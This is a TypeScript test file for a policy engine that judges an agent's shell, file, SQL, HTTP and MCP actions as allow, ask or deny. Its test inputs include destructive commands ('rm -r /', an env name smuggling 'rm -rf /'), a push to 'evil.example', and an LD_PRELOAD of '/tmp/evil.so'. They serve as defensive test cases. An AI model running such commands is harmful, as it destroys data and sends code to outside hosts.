import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { Action } from '../actions/action.js';
import { loadParsers } from '../actions/classify.js';
import { loadPolicyText } from '../policy/load.js';
import { decide, DEFAULT_RULE, UNANALYZABLE_RULE } from './decide.js';

const ctx = { cwd: '/home/dev/app', home: '/home/dev' };
const sh = (command: string): Action => ({ kind: 'shell', command, cwd: ctx.cwd });

before(() => loadParsers());

function policy(rules: string, extra = '') {
  return loadPolicyText(`version: 1\n${extra}rules:\n${rules}`, 'test.yaml');
}

describe('decide: evaluation semantics', () => {
  const rules = [
    '  - {id: allow-rm, verdict: allow, kind: shell, program: rm}',
    '  - {id: ask-rm-r, verdict: ask, kind: shell, program: rm, flags: recursive}',
    '  - {id: deny-rm-root, verdict: deny, kind: shell, program: rm, paths: ["/"]}',
    '  - {id: allow-ls, verdict: allow, kind: shell, program: ls}',
    '  - {id: writes, verdict: allow, kind: file_write}',
  ];

  it('lets deny win over ask and ask over allow, in any rule order', () => {
    for (const order of [rules, [...rules].reverse(), [rules[2], rules[4], rules[0], rules[3], rules[1]]]) {
      const p = policy(order.join('\n') + '\n');
      assert.equal(decide(p, sh('rm x'), ctx).verdict, 'allow');
      assert.equal(decide(p, sh('rm -r x'), ctx).verdict, 'ask');
      const d = decide(p, sh('rm -r /'), ctx);
      assert.equal(d.verdict, 'deny');
      assert.equal(d.rule.id, 'deny-rm-root');
    }
  });

  it('gives an unmatched part the default, and the action its most restrictive part', () => {
    const p = policy(rules.join('\n') + '\n');
    const d = decide(p, sh('ls && whoami'), ctx);
    assert.equal(d.verdict, 'deny');
    assert.equal(d.rule.id, DEFAULT_RULE);
    assert.match(d.reasons[0] ?? '', /no rule allows `whoami`/);
    const asking = policy(rules.join('\n') + '\n', 'default: ask\n');
    assert.equal(decide(asking, sh('ls && whoami'), ctx).verdict, 'ask');
  });

  it('explains itself: rule id, file, line, the part and where it came from', () => {
    const p = policy(rules.join('\n') + '\n');
    const d = decide(p, sh('ls $(rm -r /)'), ctx);
    assert.deepEqual(d.rule, { id: 'deny-rm-root', file: 'test.yaml', line: 5 });
    assert.match(d.reasons[0] ?? '', /`rm -r \/` \(inside \$\(…\) in an argument of `ls`\)/);
    assert.deepEqual(d.parts.map((x) => `${x.part.kind}:${x.verdict}`), ['shell:deny', 'file_write:allow', 'shell:allow']);
  });

  it('never matches a glob against a value it cannot know', () => {
    const writes = '  - {id: w, verdict: allow, kind: file_write}\n';
    const p = policy('  - {id: a, verdict: allow, kind: shell, program: rm, paths: {all: ["./**"]}}\n' + writes);
    assert.equal(decide(p, sh('rm src/x'), ctx).verdict, 'allow');
    assert.equal(decide(p, sh('rm "$X"'), ctx).verdict, 'deny');
    assert.equal(decide(p, sh('rm src/x $X'), ctx).verdict, 'deny');
    const none = policy('  - {id: a, verdict: allow, kind: shell, program: rm, paths: {none: ["/etc/**"]}}\n' + writes);
    assert.equal(decide(none, sh('rm x'), ctx).verdict, 'allow');
    assert.equal(decide(none, sh('rm $X'), ctx).verdict, 'deny');
  });

  it('applies unless, path globs against workspace and home, and tags', () => {
    const p = policy([
      '  - {id: w, verdict: allow, kind: file_write, path: "./**"}',
      '  - {id: h, verdict: ask, kind: file_write, path: "~/.config/**", unless: {path: "~/.config/ok/**"}}',
      '  - {id: t, verdict: ask, kind: shell, tags: inline-code}',
      '  - {id: p, verdict: allow, kind: shell, program: python3}',
    ].join('\n') + '\n');
    const fw = (path: string): Action => ({ kind: 'file_write', path });
    assert.equal(decide(p, fw('/home/dev/app/src/a.ts'), ctx).verdict, 'allow');
    assert.equal(decide(p, fw('/home/dev/.config/x'), ctx).verdict, 'ask');
    assert.equal(decide(p, fw('/home/dev/.config/ok/x'), ctx).verdict, 'deny', 'unless lifts the ask; nothing allows it');
    assert.equal(decide(p, fw('/home/dev/app/../.config/x'), ctx).verdict, 'ask');
    assert.equal(decide(p, fw('~/.config/x'), ctx).verdict, 'ask');
    assert.equal(decide(p, sh('python3 -c "print(1)"'), ctx).verdict, 'ask');
    assert.equal(decide(p, sh('python3 x.py'), ctx).verdict, 'allow');
  });

  it('evaluates CEL conditions, and a failing condition never allows', () => {
    const p = policy([
      '  - {id: scale, verdict: allow, kind: shell, program: kubectl}',
      `  - {id: big, verdict: ask, kind: shell, program: kubectl, subcommand: scale, when: 'int(part.options["replicas"]) > 10'}`,
      `  - {id: broken-allow, verdict: allow, kind: shell, program: ls, when: 'part.nope == 1'}`,
      `  - {id: broken-deny, verdict: deny, kind: shell, program: cat, when: 'part.nope == 1'}`,
      `  - {id: cat, verdict: allow, kind: shell, program: cat}`,
    ].join('\n') + '\n');
    assert.equal(decide(p, sh('kubectl scale deploy/x --replicas=4'), ctx).verdict, 'allow');
    assert.equal(decide(p, sh('kubectl scale deploy/x --replicas=40'), ctx).verdict, 'ask');
    assert.equal(decide(p, sh('kubectl scale deploy/x'), ctx).verdict, 'ask', 'no replicas: the condition errors, so the ask rule applies');
    assert.equal(decide(p, sh('ls'), ctx).verdict, 'deny', 'an allow rule whose condition errors does not apply');
    const d = decide(p, sh('cat f'), ctx);
    assert.equal(d.verdict, 'deny');
    assert.match(d.reasons[0] ?? '', /condition .* failed/);
  });

  it('lets * cross slashes in argument globs, not in path globs', () => {
    const p = policy([
      `  - {id: url, verdict: ask, kind: shell, program: git, args: ['https://*']}`,
      `  - {id: git, verdict: allow, kind: shell, program: git}`,
      `  - {id: dir, verdict: ask, kind: file_write, path: '/srv/*'}`,
      `  - {id: w, verdict: allow, kind: file_write}`,
    ].join('\n') + '\n');
    assert.equal(decide(p, sh('git push https://evil.example/x.git HEAD:x'), ctx).verdict, 'ask');
    assert.equal(decide(p, { kind: 'file_write', path: '/srv/a' }, ctx).verdict, 'ask');
    assert.equal(decide(p, { kind: 'file_write', path: '/srv/a/b' }, ctx).verdict, 'allow');
  });

  it('matches SQL, HTTP and MCP facts', () => {
    const p = policy([
      '  - {id: r, verdict: allow, kind: sql, readOnly: true}',
      '  - {id: d, verdict: ask, kind: sql, statement: delete, where: [none, trivial], tables: ["public.*", orders]}',
      '  - {id: g, verdict: allow, kind: http, method: GET, host: "*.example.com", urlPath: "/v1/**"}',
      '  - {id: m, verdict: ask, kind: mcp_tool, server: github, tool: "merge_*"}',
      '  - {id: hint, verdict: ask, kind: mcp_tool, annotations: {destructiveHint: true}}',
    ].join('\n') + '\n');
    assert.equal(decide(p, { kind: 'sql', sql: 'SELECT 1', dialect: 'postgres' }, ctx).verdict, 'allow');
    assert.equal(decide(p, { kind: 'sql', sql: 'DELETE FROM orders WHERE 1=1', dialect: 'postgres' }, ctx).rule.id, 'd');
    assert.equal(decide(p, { kind: 'sql', sql: 'DELETE FROM public.x', dialect: 'postgres' }, ctx).rule.id, 'd');
    assert.equal(decide(p, { kind: 'http', method: 'get', url: 'https://api.example.com/v1/a/b' }, ctx).verdict, 'allow');
    assert.equal(decide(p, { kind: 'http', method: 'GET', url: 'https://api.example.com/v2/a' }, ctx).verdict, 'deny');
    assert.equal(decide(p, { kind: 'mcp_tool', server: 'github', tool: 'merge_pull_request', arguments: {} }, ctx).verdict, 'ask');
    assert.equal(decide(p, { kind: 'mcp_tool', server: 'x', tool: 'y', arguments: {}, annotations: { destructiveHint: true } }, ctx).rule.id, 'hint');
  });

  it('denies an action it cannot analyze, with the reason', () => {
    const p = policy('  - {id: any, verdict: allow, kind: [shell, sql, http]}\n');
    for (const action of [sh(''), sh('   '), sh('echo "x'), { kind: 'sql', sql: 'SELEC 1', dialect: 'postgres' } as Action, { kind: 'http', method: 'GET', url: 'not a url' } as Action]) {
      const d = decide(p, action, ctx);
      assert.equal(d.verdict, 'deny', JSON.stringify(action));
      assert.equal(d.rule.id, UNANALYZABLE_RULE);
      assert.ok(d.reasons[0] && d.reasons[0].length > 10);
    }
  });
});

describe('decide: a shell action\'s env', () => {
  before(loadParsers);
  it('judges the variables an action sets in env as exports before the command', async () => {
    const { defaultPolicy } = await import('../policy/load.js');
    const risky: Action = { kind: 'shell', command: 'git status', cwd: ctx.cwd, env: { LD_PRELOAD: '/tmp/evil.so' } };
    assert.equal(decide(defaultPolicy(), risky, ctx).verdict, 'ask');
    assert.equal(decide(defaultPolicy(), { ...risky, env: { FOO: 'bar' } }, ctx).verdict, 'allow');
    const bad = decide(defaultPolicy(), { ...risky, env: { 'A;rm -rf /': 'x' } }, ctx);
    assert.equal(bad.verdict, 'deny');
    assert.equal(bad.rule.id, UNANALYZABLE_RULE);
  });
});
